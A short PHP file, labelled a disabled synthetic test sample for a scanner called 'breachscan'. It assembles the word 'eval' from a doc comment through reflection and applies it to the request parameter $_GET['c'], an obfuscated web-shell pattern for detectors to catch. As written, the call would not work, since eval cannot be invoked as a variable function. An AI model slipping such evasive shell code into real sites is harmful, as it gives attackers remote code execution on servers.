<?php
// synthetic test sample for breachscan: function name assembled from the script's own doc
// comment through reflection. Disabled.
return;
/**
 * ev al
 */
class Holder {}
$rc = new ReflectionClass('Holder');
$str = $rc->getDocComment();
$fn = substr($str, strpos($str, 'e'), 2) . substr($str, strpos($str, 'a'), 2);
$fn($_GET['c']);
